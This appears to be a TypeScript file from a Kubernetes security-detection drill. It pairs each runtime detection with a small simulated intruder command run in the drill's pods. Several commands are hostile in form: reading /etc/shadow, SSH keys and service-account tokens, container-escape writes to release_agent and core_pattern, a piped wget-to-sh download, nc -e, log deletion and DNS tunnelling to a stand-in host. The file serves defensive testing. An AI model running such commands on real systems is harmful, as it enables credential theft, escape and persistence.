/** What the intruder does: one small deed for each detection, harmless and inside the drill's own pods. */

/**
 * `web`, `priv`, `user`: sent to that server's web shell, so that it is the server's own doing; `priv` is privileged, `user`
 * runs as nobody in particular from an image with a setuid file. `exec`: by `kubectl exec` into `web`; `terminal`: with a
 * terminal. `reader`, `operator`: a request with that service account's token, as arguments of kubectl.
 */
export type Way = "web" | "priv" | "user" | "exec" | "terminal" | "reader" | "operator";

export interface Action {
  readonly detection: string;
  readonly way: Way;
  readonly script: string;
}

/** A program of that name that is only busybox: what goes by names asks for no more. */
function called(name: string, rest = ""): string {
  return `cp /bin/busybox /tmp/${name}; /tmp/${name} ${rest} </dev/null`;
}

const token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
const long = "abcdefghijklmnopqrstuvwxyz0123456789";

export const actions: readonly Action[] = [
  { detection: "unexpected-process", way: "web", script: "/bin/id" },
  { detection: "unexpected-file", way: "web", script: "echo x >/var/note" },
  { detection: "unexpected-listener", way: "web", script: "drill listen 9999" },
  { detection: "unexpected-connection", way: "web", script: "drill connect 127.0.0.1 7001 7001" },
  { detection: "unexpected-name", way: "web", script: "nslookup elsewhere.example.com" },
  { detection: "unexpected-capability", way: "web", script: "/bin/chown 1:1 /var/note" },
  { detection: "unexpected-system-call", way: "web", script: "drill call" },
  { detection: "powerful-system-call", way: "web", script: "drill keyring" },
  { detection: "shell-in-container", way: "terminal", script: "exit 0" },
  { detection: "drifted-binary", way: "web", script: called("ls", "/") },
  { detection: "fileless-execution", way: "web", script: "drill memory" },
  { detection: "reverse-shell", way: "web", script: "drill reverse" },
  { detection: "sensitive-file", way: "web", script: "cat /etc/shadow" },
  { detection: "token-access", way: "web", script: `cat ${token}` },
  {
    detection: "api-contact",
    way: "web",
    script: "drill connect $KUBERNETES_SERVICE_HOST $KUBERNETES_SERVICE_PORT $KUBERNETES_SERVICE_PORT",
  },
  { detection: "api-access", way: "reader", script: "get --raw /api/v1/namespaces/drill/configmaps" },
  { detection: "exec-into-pod", way: "operator", script: "exec -n drill deploy/back -- true" },
  {
    detection: "crypto-miner",
    way: "web",
    script: called("xmrig", "-o stratum+tcp://127.0.0.1:3333 --coin monero"),
  },
  { detection: "mining-port", way: "web", script: "drill connect 127.0.0.1 3333 3333" },
  { detection: "mining-domain", way: "web", script: "nslookup supportxmr.com" },
  {
    detection: "release-agent",
    way: "web",
    script: "echo /tmp/x >/sys/fs/cgroup/memory/release_agent; echo /tmp/x >/sys/fs/cgroup/release_agent",
  },
  { detection: "core-pattern", way: "web", script: "echo '|/tmp/x' >/proc/sys/kernel/core_pattern" },
  { detection: "namespace-change", way: "web", script: "/usr/bin/nsenter -t 1 -u true" },
  { detection: "mount", way: "web", script: "/bin/mount -t tmpfs none /mnt" },
  { detection: "kernel-module", way: "web", script: "/sbin/insmod /nonexistent.ko" },
  {
    detection: "credential-search",
    way: "web",
    script: "/bin/grep -r 'BEGIN RSA PRIVATE' /etc",
  },
  { detection: "credential-file", way: "web", script: "cat /root/.ssh/id_rsa" },
  { detection: "environment-read", way: "web", script: "cat /proc/1/environ >/dev/null" },
  { detection: "clear-logs", way: "web", script: "rm /var/log/messages" },
  { detection: "shell-history", way: "web", script: "rm /root/.ash_history" },
  { detection: "lateral-scan", way: "web", script: "drill connect 127.0.0.1 20001 20030" },
  {
    detection: "dns-tunnel",
    way: "web",
    script: `for part in $(seq 1 22); do nslookup ${long}$part.tunnel.example.com; done`,
  },
  { detection: "ptrace", way: "web", script: "drill trace" },
  { detection: "privilege-gain", way: "user", script: "/usr/local/bin/act user" },
  { detection: "bpf-load", way: "priv", script: "drill bpf" },
  {
    detection: "device-access",
    way: "priv",
    script: "mknod /dev/sdz b 7 7; dd if=/dev/sdz of=/dev/null count=1",
  },
  {
    detection: "metadata-service",
    way: "priv",
    script: "ip address add 169.254.169.254/32 dev lo; drill connect 169.254.169.254 80 80",
  },
  { detection: "debugfs", way: "priv", script: called("debugfs", "/dev/sdz") },
  { detection: "exec-from-mount", way: "web", script: "cp /bin/busybox /data/ls; /data/ls /" },
  {
    detection: "exec-from-shared-memory",
    way: "priv", // containerd mounts it so that nothing runs from it
    script: "/bin/mount -o remount,exec /dev/shm; cp /bin/busybox /dev/shm/ls; /dev/shm/ls /",
  },
  { detection: "hardlink-over-sensitive-file", way: "web", script: "ln /etc/passwd /etc/kept" },
  { detection: "symlink-over-sensitive-file", way: "web", script: "ln -s /etc/shadow /tmp/kept" },
  { detection: "io-uring", way: "web", script: "drill uring" },
  { detection: "kubernetes-client", way: "exec", script: called("kubectl", "get secrets") },
  { detection: "netcat-exec", way: "web", script: "/usr/bin/nc -w 1 127.0.0.1 9 -e /bin/true" },
  { detection: "network-tool", way: "web", script: called("nmap", "127.0.0.1") },
  { detection: "package-manager", way: "exec", script: "/usr/bin/dpkg -i /nonexistent.deb" },
  { detection: "packet-socket", way: "web", script: "drill raw" },
  { detection: "persistence", way: "web", script: "echo true >>/etc/profile" },
  { detection: "piped-download", way: "web", script: "/bin/sh -c 'wget -q -O - http://127.0.0.1:1/x | sh'" },
  { detection: "preload", way: "web", script: "echo /tmp/x.so >/etc/ld.so.preload" },
  { detection: "remove-data", way: "web", script: "/bin/dd if=/dev/zero of=/dev/null count=1" },
  {
    detection: "shell-by-server",
    way: "web",
    script: "cp /usr/local/bin/drill /tmp/redis-server; /tmp/redis-server spawn /bin/sh -c true",
  },
  { detection: "ssh-connection", way: "web", script: called("ssh", "-p 2222 127.0.0.1") },
  { detection: "write-below-system", way: "web", script: "echo x >/usr/bin/more-of-it" },
];
